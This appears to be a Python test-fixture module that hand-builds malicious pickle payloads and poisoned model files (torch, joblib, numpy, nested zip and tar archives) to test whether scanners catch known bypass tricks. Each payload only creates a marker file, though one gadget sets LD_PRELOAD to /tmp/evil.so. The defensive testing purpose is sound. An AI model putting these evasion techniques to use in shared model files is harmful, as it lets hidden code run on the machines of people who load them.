"""Real malicious pickles, one per bypass family that public scanners have fallen for.

Every payload creates the file ``marker`` in the working directory when it is loaded (no
shell, no network): :func:`load_in_subprocess` proves that each one really runs code with
the loader it targets, so a scanner that calls them unsafe is judging real attacks. They are
written opcode by opcode, the way an attacker writes them, not through ``__reduce__`` alone.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

MARKER = "marker"


def _unicode(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data  # SHORT_BINUNICODE


def _proto(n: int = 4) -> bytes:
    return b"\x80" + bytes([n])


# -- unlisted callables -----------------------------------------------------------------------


def open_protocol0() -> bytes:
    """GLOBAL builtins.open, REDUCE: the textbook payload."""
    return f"cbuiltins\nopen\n(V{MARKER}\nVw\ntR.".encode()


def runpy_run_code() -> bytes:
    """runpy._run_code(source, globals): runs any source; not on blocklists for years."""
    source = f"open({MARKER!r}, 'w').close()"
    return f"crunpy\n_run_code\n(V{source}\n(dtR.".encode()


def pydoc_locate() -> bytes:
    """pydoc.locate('builtins.open') gives open back; the result is then called."""
    return (
        _proto(2)
        + b"cpydoc\nlocate\n"
        + b"(X"
        + struct.pack("<I", len("builtins.open"))
        + b"builtins.opentR"
        + b"(X"
        + struct.pack("<I", len(MARKER))
        + MARKER.encode()
        + b"X\x01\x00\x00\x00wtR."
    )


def operator_methodcaller() -> bytes:
    """operator.methodcaller('touch')(pathlib.Path('marker'))."""
    return (
        _proto(4)
        + _unicode("operator")
        + _unicode("methodcaller")
        + b"\x93"  # STACK_GLOBAL
        + _unicode("touch")
        + b"\x85R"  # TUPLE1, REDUCE -> methodcaller('touch')
        + _unicode("pathlib")
        + _unicode("Path")
        + b"\x93"
        + _unicode(MARKER)
        + b"\x85R"  # Path('marker')
        + b"\x85R."  # methodcaller(...)(path)
    )


def functools_partial() -> bytes:
    """functools.partial(open, 'marker')('w')."""
    return (
        _proto(4)
        + _unicode("functools")
        + _unicode("partial")
        + b"\x93"
        + _unicode("builtins")
        + _unicode("open")
        + b"\x93"
        + _unicode(MARKER)
        + b"\x86R"  # TUPLE2, REDUCE -> partial(open, 'marker')
        + _unicode("w")
        + b"\x85R."
    )


# -- names from the memo, protocol 0 INST / OBJ -------------------------------------------------


def stack_global_from_memo() -> bytes:
    """STACK_GLOBAL whose module and name come from memoized strings, not adjacent opcodes."""
    return (
        _proto(4)
        + _unicode("builtins")
        + b"\x94"  # MEMOIZE -> 0
        + _unicode("open")
        + b"\x94"  # MEMOIZE -> 1
        + b"00"  # POP, POP: nothing left on the stack that a naive scanner would pair up
        + b"h\x00h\x01"  # BINGET 0, BINGET 1
        + b"\x93"
        + _unicode(MARKER)
        + _unicode("w")
        + b"\x86R."
    )


def inst_protocol0() -> bytes:
    """INST: module and name on lines, arguments from the mark; no GLOBAL opcode at all."""
    return f"(V{MARKER}\nVw\nibuiltins\nopen\n.".encode()


def obj_protocol1() -> bytes:
    """OBJ: the class is the first item after the mark."""
    return f"(cbuiltins\nopen\nV{MARKER}\nVw\no.".encode()


def py2_names() -> bytes:
    """Python 2 module names, which Python 3 maps (__builtin__ -> builtins)."""
    return f"c__builtin__\nopen\n(V{MARKER}\nVw\ntR.".encode()


# -- gadgets the machine must refuse without a name to blame ------------------------------------


def call_of_a_call() -> bytes:
    """getattr(builtins, 'open')(...): the callee is the result of another call."""
    return (
        _proto(4)
        + _unicode("builtins")
        + _unicode("getattr")
        + b"\x93"
        + _unicode("builtins")
        + _unicode("__import__")
        + b"\x93"
        + _unicode("builtins")
        + b"\x85R"
        + _unicode("open")
        + b"\x86R"
        + _unicode(MARKER)
        + _unicode("w")
        + b"\x86R."
    )


def stack_global_of_computed_name() -> bytes:
    """STACK_GLOBAL of a string made by a call: only loading the file would tell the name."""
    return (
        _proto(4)
        + _unicode("builtins")
        + _unicode("str")
        + b"\x93"
        + _unicode("builtins")
        + b"\x85R"  # str('builtins'): an allowlisted call whose result is not a literal
        + _unicode("open")
        + b"\x93"
        + _unicode(MARKER)
        + _unicode("w")
        + b"\x86R."
    )


def extension_registry() -> bytes:
    """EXT1: a global named by number through copyreg's extension registry."""
    return _proto(2) + b"\x82\x01)R."


def setitem_on_a_global() -> bytes:
    """SETITEM on os.environ: changes the loading process without calling anything."""
    return b"cos\nenviron\nVLD_PRELOAD\nV/tmp/evil.so\ns."


def build_on_a_global() -> bytes:
    """BUILD on a class: sets attributes of an imported object (monkeypatching)."""
    return b"ccollections\nOrderedDict\n}V__repr__\nI1\nsb."


# -- files that carry pickles -------------------------------------------------------------------


class _Opener:
    """Pickles as ``open('marker', 'w')`` wherever it is stored."""

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return (open, (MARKER, "w"))


def joblib_object_array(path: Path) -> None:
    """A joblib file whose object array (a nested pickle) holds the payload."""
    import joblib
    import numpy as np

    joblib.dump({"weights": np.arange(4.0), "extra": np.array([_Opener()], dtype=object)}, path)


def npy_object_array(path: Path) -> None:
    """A .npy of dtype object: np.load(allow_pickle=True) unpickles what follows the header."""
    import numpy as np

    with path.open("wb") as handle:  # np.save would append ".npy" to a name
        np.save(handle, np.array([_Opener()], dtype=object), allow_pickle=True)


def legacy_torch_with_payload(path: Path) -> None:
    """The legacy torch format is pickles in a row; the payload is the third (sys_info)."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    version = pickle.dumps(1001, protocol=2)
    path.write_bytes(magic + version + pickle.dumps(_Opener(), protocol=2))


def torch_zip(path: Path) -> None:
    """A real, clean ``torch.save`` of a small state dict."""
    import torch

    torch.save({"w": torch.arange(6.0).reshape(2, 3), "step": 3}, path)


def torch_zip_with_data_pkl_replaced(path: Path) -> None:
    """torch.save's archive with data.pkl swapped for the payload (what torch.load runs)."""
    torch_zip(path)
    _rewrite_zip(path, lambda name, data: pickle.dumps(_Opener(), 2) if _data_pkl(name) else data)


def torch_zip_with_second_pickle(path: Path) -> None:
    """A clean data.pkl plus a payload pickle under a storage-like name."""
    torch_zip(path)
    _rewrite_zip(path, lambda name, data: data, extra={"archive/data/99": open_protocol0()})


def torch_zip_with_duplicate_data_pkl(path: Path) -> None:
    """Two members named data.pkl: scanners read one, a loader may read the other."""
    torch_zip(path)
    prefix = zipfile.ZipFile(path).namelist()[0].split("/")[0]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name
        with zipfile.ZipFile(path, "a") as archive:
            archive.writestr(f"{prefix}/data.pkl", pickle.dumps(_Opener(), protocol=2))


def zip_with_renamed_member(path: Path) -> None:
    """A plain zip whose payload hides under an innocent name and extension."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("README.txt", "weights inside\n")
        archive.writestr("weights/layer0.bin", pickle.dumps(_Opener(), protocol=4))


def zip_in_zip(path: Path) -> None:
    """The payload two archives deep."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("model/config.txt", inst_protocol0())
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("bundle/inner.dat", inner.getvalue())


def tar_gz_with_payload(path: Path) -> None:
    """A gzip'd tar whose member is a renamed payload."""
    data = stack_global_from_memo()
    with tarfile.open(path, "w:gz") as archive:
        info = tarfile.TarInfo("checkpoint/vocab.json")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))


def gzip_of_pickle(path: Path) -> None:
    """A gzip'd pickle named like text."""
    import gzip

    path.write_bytes(gzip.compress(pickle.dumps(_Opener(), protocol=2), mtime=0))


RAW_PAYLOADS: dict[str, Callable[[], bytes]] = {
    "open-protocol0": open_protocol0,
    "runpy": runpy_run_code,
    "pydoc": pydoc_locate,
    "operator": operator_methodcaller,
    "functools": functools_partial,
    "stack-global-from-memo": stack_global_from_memo,
    "inst-protocol0": inst_protocol0,
    "obj-protocol1": obj_protocol1,
    "python2-names": py2_names,
    "call-of-a-call": call_of_a_call,
    "stack-global-computed": stack_global_of_computed_name,
}
"""Payloads that run when ``pickle.loads`` reads them (proved by :func:`load_in_subprocess`)."""

GADGETS: dict[str, Callable[[], bytes]] = {
    "extension-registry": extension_registry,
    "setitem-on-global": setitem_on_a_global,
    "build-on-global": build_on_a_global,
}
"""Streams that change the loading process or that no static reading can follow."""

FILE_PAYLOADS: dict[str, Callable[[Path], None]] = {
    "joblib-object-array": joblib_object_array,
    "npy-object-array": npy_object_array,
    "legacy-torch": legacy_torch_with_payload,
    "torch-data-pkl-replaced": torch_zip_with_data_pkl_replaced,
    "torch-second-pickle": torch_zip_with_second_pickle,
    "torch-duplicate-data-pkl": torch_zip_with_duplicate_data_pkl,
    "zip-renamed-member": zip_with_renamed_member,
    "zip-in-zip": zip_in_zip,
    "tar-gz": tar_gz_with_payload,
    "gzip": gzip_of_pickle,
}
"""Model files that carry a payload somewhere inside."""

_LOADERS = """
import json, os, pickle, sys
results = {}
for name, path, how in json.loads(sys.argv[1]):
    os.chdir(os.path.dirname(path))
    try:
        if how == "pickle":
            pickle.loads(open(path, "rb").read())
        elif how == "joblib":
            import joblib; joblib.load(path)
        elif how == "numpy":
            import numpy; numpy.load(path, allow_pickle=True)
        elif how == "torch":
            import torch; torch.load(path, weights_only=False)
    except Exception as exc:
        pass
    results[name] = os.path.exists("marker")
print(json.dumps(results))
"""


def load_in_subprocess(cases: list[tuple[str, Path, str]]) -> dict[str, bool]:
    """Load each ``(name, file, loader)`` in a child process; which ones created the marker.

    Each file must sit in a directory of its own (the marker is looked for there).
    """
    done = subprocess.run(
        [sys.executable, "-c", _LOADERS, json.dumps([[n, str(p), h] for n, p, h in cases])],
        capture_output=True,
        text=True,
        timeout=300,
        check=True,
        env={**os.environ, "PYTHONWARNINGS": "ignore"},
    )
    result: dict[str, bool] = json.loads(done.stdout.strip().splitlines()[-1])
    return result


def _data_pkl(name: str) -> bool:
    return name.endswith("/data.pkl")


def _rewrite_zip(
    path: Path, change: Callable[[str, bytes], bytes], extra: dict[str, bytes] | None = None
) -> None:
    with zipfile.ZipFile(path) as source:
        members = [(info.filename, source.read(info)) for info in source.infolist()]
    with zipfile.ZipFile(path, "w") as target:
        for name, data in members:
            target.writestr(name, change(name, data))
        for name, data in (extra or {}).items():
            prefix = members[0][0].split("/")[0]
            target.writestr(name.replace("archive", prefix, 1), data)
